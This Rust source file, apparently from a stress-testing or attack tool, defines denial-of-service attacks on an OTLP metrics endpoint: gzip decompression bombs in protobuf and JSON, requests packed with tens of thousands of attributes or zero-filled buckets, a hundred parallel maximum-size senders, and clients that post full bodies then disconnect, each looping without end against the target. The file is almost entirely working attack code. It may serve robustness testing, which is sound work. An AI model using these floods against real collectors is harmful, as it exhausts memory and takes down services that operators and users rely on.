//! Small telemetry that expands: empty metrics, points and JSON objects in gzip, and senders who do
//! not wait for the response.

use std::fmt::Write as _;
use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::attack::{Attack, Target, open, post};

pub(crate) const ATTACK: Attack = Attack::new("otlp-bomb", act);

pub(crate) const ABANDONED: Attack = Attack::new("otlp-abandoned", abandon);

pub(crate) const ATTRIBUTES: Attack = Attack::new("otlp-attributes", attributes);

pub(crate) const QUEUE: Attack = Attack::new("otlp-queue", queue);

const METRICS: usize = 8_000_000;
/// The number of points of a request just below the limit.
const POINTS: usize = 32_000;
/// The number of labels of one point, so that the request is just below the limit, and the number
/// of senders.
const LABELS: usize = 30_000;
const LABEL_SENDERS: usize = 20;
const SENDERS: usize = 4;
const QUEUED: usize = 100;

fn act(target: &Target) -> anyhow::Result<()> {
    let metrics = message(1, &message(2, &[0x12, 0x00].repeat(METRICS)));
    let points = message(1, &message(2, &message(2, &message(5, &[0x0a, 0x00].repeat(METRICS / 4)))));
    let json = format!(r#"{{"resourceMetrics":[{}{{}}]}}"#, "{},".repeat(METRICS / 8));
    let bombs =
        [("protobuf", gzip(&metrics)?), ("protobuf", gzip(&points)?), ("json", gzip(json.as_bytes())?)];
    let bombs = bombs.map(|(kind, bomb)| {
        let kind = if kind == "json" { "application/json" } else { "application/x-protobuf" };
        (format!("content-type: {kind}\r\ncontent-encoding: gzip\r\n"), bomb)
    });
    send(target, SENDERS, &bombs);
    Ok(())
}

/// One point with many small attributes, in addition to buckets and exemplars of zeros.
fn attributes(target: &Target) -> anyhow::Result<()> {
    let value = message(2, &message(1, &[b'v'; 90]));
    let labels = (0..LABELS).flat_map(|n| {
        let key = message(1, format!("k{n}").as_bytes());
        message(7, &[key, value.clone()].concat())
    });
    let point = message(1, &labels.collect::<Vec<_>>());
    let metric = |data: u8, point: &[u8]| {
        let metric = [message(1, b"loss"), message(data, point)].concat();
        message(1, &message(2, &message(2, &metric)))
    };
    let buckets = message(1, &message(6, &vec![0; 3_900_000]));
    let exemplars = message(1, &message(5, &[]).repeat(1_300_000));
    let mut bombs = Vec::new();
    for bomb in [metric(5, &point), metric(9, &buckets), metric(5, &exemplars)] {
        let headers = "content-type: application/x-protobuf\r\ncontent-encoding: gzip\r\n".to_owned();
        bombs.push((headers, gzip(&bomb)?));
    }
    send(target, LABEL_SENDERS, &bombs);
    Ok(())
}

/// Many parallel requests, each of the largest decompressed size.
fn queue(target: &Target) -> anyhow::Result<()> {
    let large = message(1, &message(2, &message(6, &vec![0; 4_000_000])));
    let headers = "content-type: application/x-protobuf\r\ncontent-encoding: gzip\r\n".to_owned();
    send(target, QUEUED, &[(headers, gzip(&large)?)]);
    Ok(())
}

fn send(target: &Target, senders: usize, bombs: &[(String, Vec<u8>)]) {
    std::thread::scope(|threads| {
        for _ in 0..senders {
            threads.spawn(|| {
                loop {
                    for (headers, bomb) in bombs {
                        let _ = post(target.exporter, "/v1/metrics", headers, bomb);
                    }
                }
            });
        }
    });
}

/// Requests of the largest size, whose senders disconnect before they are read.
fn abandon(target: &Target) -> anyhow::Result<()> {
    let points = message(1, &message(2, &message(2, &message(5, &[0x0a, 0x00].repeat(POINTS)))));
    let body = gzip(&points)?;
    let mut head = format!(
        "POST /v1/metrics HTTP/1.1\r\nhost: {}\r\ncontent-type: application/x-protobuf\r\n",
        target.exporter
    );
    write!(head, "content-encoding: gzip\r\ncontent-length: {}\r\n\r\n", body.len())?;
    std::thread::scope(|threads| {
        for _ in 0..SENDERS {
            threads.spawn(|| {
                loop {
                    let Ok(mut stream) = open(target.exporter) else { continue };
                    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
                }
            });
        }
    });
    Ok(())
}

fn gzip(bytes: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    gzip.write_all(bytes)?;
    Ok(gzip.finish()?)
}

/// A protobuf field of bytes.
pub(super) fn message(field: u8, bytes: &[u8]) -> Vec<u8> {
    let mut out = vec![field << 3 | 2];
    let mut length = bytes.len();
    while length >= 0x80 {
        out.push(length as u8 | 0x80);
        length >>= 7;
    }
    out.push(length as u8);
    out.extend_from_slice(bytes);
    out
}
